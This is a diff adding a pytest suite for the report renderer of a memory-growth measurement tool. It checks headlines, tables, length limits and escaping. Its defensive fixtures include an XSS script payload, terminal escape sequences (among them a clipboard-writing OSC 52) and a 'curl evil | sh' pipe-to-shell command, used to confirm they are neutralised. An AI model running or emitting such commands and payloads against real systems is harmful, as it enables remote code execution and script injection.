@@ -1,0 +1,369 @@
+import json
+from dataclasses import replace
+
+import pytest
+from builders import factories
+from builders.made import BOOK, claims_summary
+from lab.claims.judge import judge_claims
+from lab.records.summary import Summary, Verdict
+from lab.report.app_answer import answer_text
+from lab.report.overview import answer
+from lab.report.render import (
+    MARKDOWN_LIMIT,
+    render_all,
+    render_html,
+    render_markdown,
+)
+from lab.text.markdown import markdown_code, markdown_fence, markdown_text
+
+MIB = factories.MIB
+HOSTILE = "</pre><script>alert(1)</script> | `x` ``` [a](b) \x1b[31mred\x1b[0m \x00"
+
+
+def _first_screen(summary: Summary) -> str:
+    return render_markdown(summary).partition("\n## ")[0]
+
+
+def test_the_answer_of_the_core_suite() -> None:
+    told = answer(factories.core_summary())
+
+    assert told.headline == "Of 12 variants, 8 grew to a ceiling and stopped and 4 stayed flat."
+    assert [(line.verdict.value, line.names) for line in told.lines] == [
+        ("bounded", "Python 3.7 fastapi-sync"),
+        ("bounded", "fastapi-sync on Python 3.8 to 3.10"),
+        ("bounded", "flask on every Python (3.7 to 3.10)"),
+        ("flat", "fastapi-async on every Python (3.7 to 3.10)"),
+    ]
+    assert told.lines[0].text == (
+        "grew by 2,991 MiB to a ceiling of 3,015 MiB and stopped; "
+        "predicted +3,052 MiB (measured is 0.98 of it)."
+    )
+
+
+def test_the_axis_that_separates_is_found() -> None:
+    findings = answer(factories.core_summary()).findings
+
+    assert findings[0] == (
+        "What separates them: endpoint (sync where memory grew, async where it stayed flat)."
+    )
+
+
+def test_another_axis_is_found_as_well() -> None:
+    variants = [
+        factories.variant_summary(
+            f"py{python}-fastapi-sync",
+            Verdict.BOUNDED if python == "37" else Verdict.FLAT,
+            growth=100 * MIB if python == "37" else 0,
+        )
+        for python in ("37", "38", "310")
+    ]
+
+    findings = answer(factories.summary(variants)).findings
+
+    assert findings[0] == (
+        "What separates them: python (3.7 where memory grew, 3.8 and 3.10 where it stayed flat)."
+    )
+
+
+def test_a_combination_of_axes_is_found() -> None:
+    variants = [
+        factories.variant_summary(
+            f"py{python}-fastapi-{endpoint}",
+            Verdict.BOUNDED if (python, endpoint) == ("37", "sync") else Verdict.FLAT,
+        )
+        for python in ("37", "38")
+        for endpoint in ("sync", "async")
+    ]
+
+    findings = answer(factories.summary(variants)).findings
+
+    assert "have python 3.7 with endpoint sync" in findings[0]
+
+
+def test_nothing_that_separates_is_said() -> None:
+    variants = [
+        factories.variant_summary("one", Verdict.BOUNDED, growth=20 * MIB),
+        factories.variant_summary("two"),
+    ]
+
+    assert "Nothing that was recorded separates them" in _first_screen(factories.summary(variants))
+
+
+def test_the_noise_of_a_calibration_separates_nothing() -> None:
+    prediction = factories.variant_summary().prediction
+    variants = [
+        factories.variant_summary(
+            name, verdict, prediction=replace(prediction, inputs={"kept_bytes": kept})
+        )
+        for name, verdict, kept in (
+            ("one", Verdict.BOUNDED, 16_000_000),
+            ("two", Verdict.FLAT, 15_900_000),
+        )
+    ]
+    findings = answer(factories.summary(variants)).findings
+
+    assert "Nothing that was recorded separates them" in findings[0]
+
+
+def test_growth_follows_the_threads() -> None:
+    findings = answer(factories.core_summary()).findings
+
+    assert (
+        "Among those that grew and stopped, growth follows the number of predicted threads: "
+        "200 → 2,991 MiB; 26 → 389 MiB; 25 → 374 MiB; 8 → 120 MiB."
+    ) in findings
+
+
+def test_growth_that_does_not_follow_is_said() -> None:
+    variants = [
+        factories.variant_summary(f"v{threads}", Verdict.BOUNDED, growth, 1, threads)
+        for threads, growth in ((5, 90 * MIB), (20, 40 * MIB), (80, 10 * MIB))
+    ]
+
+    assert any("does not follow" in each for each in answer(factories.summary(variants)).findings)
+
+
+@pytest.mark.parametrize("variants", [(), (factories.unmeasured(),)], ids=["none", "unmeasured"])
+def test_nothing_measured_never_sounds_like_a_pass(variants: tuple[()]) -> None:
+    first = _first_screen(factories.summary(variants))
+
+    assert first.startswith("# Nothing was measured")
+    assert "This is no pass" in first
+
+
+def test_what_is_partial_missing_or_undecided_stands_in_the_first_screen() -> None:
+    summary = factories.summary(
+        [factories.variant_summary(), factories.unmeasured("py38-flask")],
+        partial=True,
+        missing=(factories.missing("py39-flask", "its image did not build"),),
+    )
+
+    first = _first_screen(summary)
+
+    assert "This run is partial" in first
+    assert "1 variant never ran: py39-flask (its image did not build)." in first
+    assert "**py38-flask**: no verdict: It never got ready within 60 s." in first
+
+
+def test_markdown_has_a_row_for_each_variant_and_the_picture() -> None:
+    text = render_markdown(factories.core_summary())
+
+    assert sum(line.startswith("| py3") for line in text.splitlines()) == 12
+    assert "![Memory of each variant over time, all panels on one scale](curves.svg)" in text
+
+
+def test_what_was_not_measured_is_a_dash() -> None:
+    text = render_markdown(factories.summary([factories.unmeasured()]))
+    (row,) = [line for line in text.splitlines() if line.startswith("| py37-flask | incon")]
+
+    assert row.split(" | ")[2:7] == ["–"] * 5  # noqa: RUF001
+
+
+@pytest.mark.parametrize("count", [200, 500])
+def test_markdown_stays_below_the_limit_and_says_what_is_left_out(count: int) -> None:
+    variants = factories.many_variants(count, reason="because " * 200)
+    ended = [factories.failures(variant, ["x" * 500] * 40, reset=3) for variant in variants]
+
+    text = render_markdown(factories.summary(ended))
+
+    assert len(text) <= MARKDOWN_LIMIT
+    assert "left out here to keep this file short" in text
+    assert "## Recorded command" in text
+
+
+def test_what_each_of_several_trials_said_stands_beside_the_reason() -> None:
+    one = factories.core_summary().variants[0]
+    first = one.trials[0]
+    other = replace(first, trial=2, verdict=Verdict.FLAT, memory_bytes=None)
+    trials = (first, other, replace(first, trial=3))
+    text = render_markdown(factories.summary([replace(one, trials=trials)]))
+
+    grown = f"+{first.memory_bytes.growth / (1 << 20):,.0f}"
+    assert f"3 trials (2 {first.verdict.value}, 1 flat): {grown}, \u2013, {grown} MiB" in text
+
+
+def test_claims_are_shown_only_when_there_are_some() -> None:
+    summary = factories.core_summary()
+    files = render_all(summary, ())
+
+    assert "## Claims" not in files["report.md"]
+    assert "thread.md" not in files
+    assert "## Claims" in render_markdown(claims_summary())
+
+
+def test_the_report_of_the_whole_thread_stays_below_the_limit_with_every_claim() -> None:
+    text = render_markdown(claims_summary())
+
+    assert len(text) <= MARKDOWN_LIMIT
+    assert "This report was cut here" not in text
+    assert sum(line.startswith("| T") for line in text.splitlines()) >= 42
+
+
+def test_long_reasons_and_caveats_cost_details_and_no_claim() -> None:
+    summary = claims_summary()
+    variants = tuple(
+        replace(variant, reason="because " * 60, caveats=("late " * 60,))
+        for variant in summary.variants
+    )
+    text = render_markdown(replace(summary, variants=variants))
+
+    assert len(text) <= MARKDOWN_LIMIT
+    assert [f"| T{n:02d} |" in text for n in range(1, 43)] == [True] * 42
+    assert "## Recorded command" in text
+
+
+def test_the_page_for_the_thread_is_one_screen_and_the_table() -> None:
+    page = render_all(claims_summary(), ())["thread.md"]
+    first, table, rest = page.partition("## Claims")
+
+    assert first.startswith("# 42 statements of the thread: ")
+    assert (len(first) <= 3_500, len(first.splitlines()) <= 45) == (True, True)
+    assert table
+    assert [f"| T{n:02d} |" in rest for n in range(1, 43)] == [True] * 42
+    assert first.count("**refuted**") + first.count("**conditional**") > 5
+
+
+def test_the_first_screen_of_the_report_is_that_page() -> None:
+    summary = claims_summary()
+
+    assert all(f"**{topic.question}**" in _first_screen(summary) for topic in summary.topics)
+    assert all(topic.question in render_html(summary, ()) for topic in summary.topics)
+
+
+def test_published_predicted_and_measured_stand_in_the_report() -> None:
+    text = render_markdown(claims_summary())
+
+    assert "| T12 | py37-table2-sync, growth | 6,926 MiB | 0.0 MiB | 900 MiB | 0.13 |" in text
+    assert "| T08 | py37-table1-sync, growth | 1,220 MiB |" in text
+
+
+def test_a_run_of_one_claim_has_its_reason_in_the_headline() -> None:
+    summary = claims_summary()
+    one = replace(summary, claims=summary.claims[22:23], topics=())
+
+    assert answer(one).headline == (
+        "T23 is refuted: on 3.7 asyncio kept 611 MiB and uvloop 610 MiB."
+    )
+
+
+def test_claims_that_are_open_stand_in_the_first_screen() -> None:
+    summary = claims_summary()
+    open_ones = replace(summary, claims=judge_claims(BOOK.claims, []))
+
+    assert "T01 is inconclusive: not measured: py37-original-db" in _first_screen(open_ones)
+    assert "Inconclusive, too: T06, T07" in _first_screen(open_ones)
+
+
+def test_hostile_logs_are_shown_and_do_nothing() -> None:
+    variant = factories.failures(factories.variant_summary(), [HOSTILE], reset=2)
+    summary = factories.summary([replace(variant, caveats=(HOSTILE,), reason=HOSTILE)])
+
+    page = render_html(summary, ())
+    text = render_markdown(summary)
+
+    assert "<script>alert" not in page
+    assert "&lt;script&gt;alert(1)" in page
+    assert "\x1b" not in page + text
+    assert "\n````text\n" in text
+
+
+def test_markdown_escapes() -> None:
+    assert markdown_text("a|b <i> *x* my_name _y_") == r"a\|b \<i\> \*x\* my_name \_y\_"
+    assert markdown_code("a`b|c") == "`` a`b\\|c ``"
+    assert markdown_fence(["````"]) == "`````text\n````\n`````"
+
+
+def test_the_page_needs_no_network() -> None:
+    page = render_html(factories.core_summary(), ())
+    links = [part.split('"')[0] for part in page.split(' href="')[1:]]
+
+    assert [link for link in links if not link.startswith(("#", "data:,"))] == []
+    assert " src=" not in page
+    assert "url(" not in page
+    assert "@import" not in page
+
+
+def test_differing_versions_are_emphasised_and_equal_columns_shared() -> None:
+    text = render_markdown(factories.core_summary())
+
+    assert "| Package | Python 3.7 | Python 3.8 | Python 3.9 | Python 3.10 |" in text
+    assert "| markupsafe | **2.0.1** | **2.1.5** | **2.1.5** | **2.1.5** |" in text
+    assert "| gunicorn | 20.1.0 | 20.1.0 | 20.1.0 | 20.1.0 |" in text
+
+
+def test_every_file_is_rendered_and_again_the_same() -> None:
+    summary = factories.core_summary()
+    curves = factories.curves(summary.variants)
+
+    files = render_all(summary, curves)
+
+    assert set(files) == {"summary.json", "report.md", "report.html", "curves.svg"}
+    assert files == render_all(summary, curves)
+    assert len(json.loads(files["summary.json"])["variants"]) == 12
+
+
+@pytest.mark.parametrize("page", ["report.md", "report.html"])
+def test_the_answer_about_an_own_app_stands_in_the_report(page: str) -> None:
+    text = render_all(factories.own_summary(), ())[page]
+
+    for words in ("Cause, and what helps", "by app.py:7", "MALLOC_ARENA_MAX=1", "97%", "let go of"):
+        assert words in text
+
+
+@pytest.mark.parametrize(
+    ("verdict", "headline"),
+    [
+        (Verdict.LEAK, "shop leaks: live Python objects (proven)."),
+        (Verdict.FLAT, "shop does not grow: live Python objects (proven)."),
+    ],
+)
+def test_the_headline_of_an_own_app_is_its_own(verdict: Verdict, headline: str) -> None:
+    made = factories.own_summary()
+    assert made.own is not None
+    told = replace(made, own=replace(made.own, verdict=verdict))
+
+    assert render_markdown(told).startswith(f"# {headline}")
+
+
+def test_what_an_own_app_says_is_escaped() -> None:
+    made = factories.own_summary()
+    assert made.own is not None
+    hostile = replace(made, own=replace(made.own, helps=HOSTILE))
+
+    assert "<script>alert(1)" not in render_html(hostile, ())
+
+
+def test_what_names_an_own_apps_files_is_escaped_in_markdown_too() -> None:
+    made = factories.own_summary()
+    assert made.own is not None
+    line = replace(made.own.lines[0], place="a`b|c.py:7")
+    cause = replace(made.own.causes[0], proof="first by [a]/__init__.py:3 | <i>")
+    text = answer_text(replace(made.own, app="<b>x", causes=(cause,), lines=(line,)))
+
+    for words in (r"# \<b\>x", r"\[a\]/\_\_init\_\_.py:3 \| \<i\>", r"`` a`b\|c.py:7 ``"):
+        assert words in text
+    assert "MALLOC_ARENA_MAX=1 |" in text
+
+
+def test_a_run_of_the_matrix_has_no_such_section() -> None:
+    assert "what helps" not in render_markdown(factories.core_summary())
+
+
+STRANGE_COMMAND = (
+    "curl evil | sh\x1b]52;c;eA==\x07 \x1b[2J \u202edne </pre><script>alert(1)</script>\r\n"
+    "```\n# A heading\n\x9b31m\x00\x7f"
+)
+
+
+def test_the_recorded_command_is_called_the_runs_own_text_and_holds_no_control_characters() -> None:
+    made = factories.core_summary()
+    strange = replace(made, run=replace(made.run, command=STRANGE_COMMAND))
+    text, page = render_markdown(strange), render_html(strange, ())
+
+    for shown in (text, page.replace("&#39;", "'")):
+        assert 0 < shown.index("a stranger's text") < shown.index("curl evil")
+        assert "Run it again" not in shown
+        assert set("\x1b\x07\r\x00\x7f\x9b\u202e").isdisjoint(shown)
+    assert "\n# A heading" not in text
+    assert text.rstrip().endswith("````")
+    assert "<script>alert(1)" not in page
